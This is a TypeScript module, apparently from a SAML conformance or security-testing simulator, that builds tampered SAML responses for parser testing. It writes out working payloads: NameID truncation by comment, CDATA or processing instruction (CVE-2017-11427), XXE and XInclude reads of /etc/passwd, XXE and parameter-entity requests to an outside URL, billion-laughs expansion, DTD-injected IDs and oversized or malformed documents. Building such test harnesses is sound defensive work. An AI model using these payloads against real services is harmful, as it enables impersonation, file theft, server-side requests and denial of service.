/** Switches that act on the response as a text: parts that readers see differently, and documents that hurt parsers. */
import type { Switch } from '../switch.ts';
import { evilId, victimOf } from './misbehaviours-wrapping.ts';
import type { SamlSpoiler } from './switch.ts';

const where = 'SAML response';
const text = (does: string, xml: NonNullable<SamlSpoiler['xml']>): Switch => ({ where, does, saml: { xml } });

const nowhere = '.evil.example';

/**
 * The person is honestly called `{victim}.evil.example`; after signing, a mark cuts the name where readers that look
 * at the first text node stop. Canonicalization drops comments and unfolds CDATA, so the signature stays right.
 */
function cut(does: string, part: 'NameID' | 'email', cutAt: (rest: string) => string): Switch {
  return {
    where,
    does,
    saml: {
      message({ facts, packing }, saml, scene) {
        packing.encryptFor = undefined;
        const long = victimOf(saml, scene) + nowhere;
        for (const assertion of facts.assertions) {
          if (part === 'NameID' && assertion.nameId) assertion.nameId.value = long;
          else assertion.attributes = [...assertion.attributes, ...emails(assertion.attributes, long)];
        }
      },
      xml: (xml, saml, scene) => {
        const victim = victimOf(saml, scene);
        return xml.replaceAll(victim + nowhere, victim + cutAt(nowhere));
      },
    },
  };
}

/** In the address's own attribute where there is one. */
function emails(attributes: { name: string; values: string[] }[], value: string) {
  const own = attributes.filter(({ name }) => /mail/i.test(name));
  for (const attribute of own) attribute.values = [value];
  return own.length > 0 ? [] : [{ name: 'email', values: [value] }];
}

const comment = (rest: string): string => `<!-- -->${rest}`;
const cdata = (rest: string): string => `<![CDATA[${rest}]]>`;
const instruction = (rest: string): string => `<?x y?>${rest}`;

const beforeRoot = (prologue: string) => (xml: string) => prologue + xml;
const lol = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');

export const documentSwitches = {
  'saml-comment-in-nameid': cut('cuts the NameID by a comment (CVE-2017-11427)', 'NameID', comment),
  'saml-cdata-in-nameid': cut('cuts the NameID by CDATA', 'NameID', cdata),
  'saml-instruction-in-nameid': cut('cuts the NameID by a processing instruction', 'NameID', instruction),
  'saml-comment-in-email': cut('cuts the email attribute by a comment', 'email', comment),
  'saml-cdata-in-email': cut('cuts the email attribute by CDATA', 'email', cdata),
  'saml-instruction-in-email': cut(
    'cuts the email attribute by a processing instruction',
    'email',
    instruction,
  ),
  'saml-element-in-nameid': text('puts an element into the NameID', (xml) =>
    xml.replace('</saml:NameID>', '<x xmlns="urn:x">.evil.example</x></saml:NameID>'),
  ),

  'saml-doctype': text('begins with a DOCTYPE', beforeRoot('<!DOCTYPE Response>')),
  'saml-doctype-lower-case': text(
    'begins with a DOCTYPE that is misspelt',
    beforeRoot('<!doctype Response>'),
  ),
  'saml-xxe': text(
    'reads a file of the server into the NameID (XXE)',
    (xml) =>
      `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${xml.replace(/(<saml:NameID[^>]*>)[^<]*/, '$1&x;')}`,
  ),
  'saml-xxe-http': text(
    'makes the server ask an address (XXE)',
    (xml, _saml, { url, options }) =>
      `<!DOCTYPE r SYSTEM "${options.location ?? `${url}/simulator/elsewhere`}">${xml}`,
  ),
  'saml-billion-laughs': text(
    'unfolds ten thousand million entities',
    (xml) => `<!DOCTYPE r [<!ENTITY l0 "lol">${lol}]>${xml.replace(/(<saml:NameID[^>]*>)[^<]*/, '$1&l9;')}`,
  ),
  'saml-parameter-entities': text(
    'declares entities by parameter entities',
    (xml, _saml, { url }) => `<!DOCTYPE r [<!ENTITY % p SYSTEM "${url}/simulator/elsewhere">%p;]>${xml}`,
  ),
  'saml-default-attributes': text(
    'gives every element an ID by its DTD',
    (xml) => `<!DOCTYPE r [<!ATTLIST saml:Assertion Id CDATA "${evilId}">]>${xml}`,
  ),
  'saml-undeclared-entity': text('uses an entity that nobody declared', (xml) =>
    xml.replace(/(<saml:NameID[^>]*>)/, '$1&nbsp;'),
  ),
  'saml-stylesheet': text(
    'asks to be transformed by a style sheet',
    beforeRoot('<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/x.xsl"?>'),
  ),
  'saml-xinclude': text('includes a file by XInclude', (xml) =>
    xml.replace(
      '</samlp:Status>',
      '</samlp:Status><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    ),
  ),
  'saml-utf-16': text('is written in UTF-16', (xml) =>
    Buffer.from(`\uFEFF<?xml version="1.0" encoding="utf-16"?>${xml}`, 'utf16le'),
  ),
  'saml-utf-7': text('says that it is UTF-7', beforeRoot('<?xml version="1.0" encoding="utf-7"?>')),
  'saml-not-utf-8': text('has bytes that are no UTF-8', (xml) => {
    const at = xml.indexOf('</saml:NameID>');
    return Buffer.concat([
      Buffer.from(xml.slice(0, at)),
      Buffer.from([0xc3, 0x28]),
      Buffer.from(xml.slice(at)),
    ]);
  }),
  'saml-nul': text('has a NUL in the NameID', (xml) =>
    xml.replace('</saml:NameID>', '\0.evil.example</saml:NameID>'),
  ),
  'saml-nul-reference': text('has a NUL in the NameID by its number', (xml) =>
    xml.replace('</saml:NameID>', '&#0;.evil.example</saml:NameID>'),
  ),
  'saml-huge': text('is 600 kB long', (xml) =>
    xml.replace('</saml:NameID>', `${'x'.repeat(600_000)}</saml:NameID>`),
  ),
  'saml-deep': text('nests 5,000 elements', (xml) =>
    xml.replace(
      '<samlp:Status>',
      `<samlp:Extensions>${'<a>'.repeat(5_000)}${'</a>'.repeat(5_000)}</samlp:Extensions><samlp:Status>`,
    ),
  ),
  'saml-many-elements': text('has 50,000 elements', (xml) =>
    xml.replace(
      '<samlp:Status>',
      `<samlp:Extensions>${'<a/>'.repeat(50_000)}</samlp:Extensions><samlp:Status>`,
    ),
  ),
  'saml-many-attributes': text('has an element with 20,000 attributes', (xml) =>
    xml.replace(
      '<samlp:Status>',
      `<samlp:Status ${Array.from({ length: 20_000 }, (_, i) => `a${i}=""`).join(' ')}>`,
    ),
  ),
  'saml-attribute-repeated': text('has an element with two ID attributes', (xml) =>
    xml.replace(/(<saml:Assertion [^>]*)>/, `$1 ID="${evilId}">`),
  ),
  'saml-not-xml': text('is no XML at all', () => 'this is no XML'),
  'saml-empty': text('is empty', () => ' '),
  'saml-cut-off': text('ends in the middle', (xml) => xml.slice(0, xml.length / 2)),
  'saml-two-roots': text('has two root elements', (xml) => xml + xml),
  'saml-text-behind': text('has text behind the root element', (xml) => `${xml}trailing`),
  'saml-undeclared-prefix': text('uses a prefix without a namespace', (xml) =>
    xml.replace('<samlp:Status>', '<evil:x/><samlp:Status>'),
  ),
  'saml-bare-assertion': text(
    'sends the assertion without a response around it',
    (xml) => /<saml:Assertion.*<\/saml:Assertion>/s.exec(xml)?.[0] ?? xml,
  ),
  'saml-other-message': text('sends a LogoutResponse instead', (xml) =>
    xml.replaceAll('samlp:Response', 'samlp:LogoutResponse'),
  ),
  'saml-other-namespace': text('sends a response of SAML 1.1', (xml) =>
    xml.replace('urn:oasis:names:tc:SAML:2.0:protocol', 'urn:oasis:names:tc:SAML:1.0:protocol'),
  ),
} as const satisfies Record<string, Switch>;
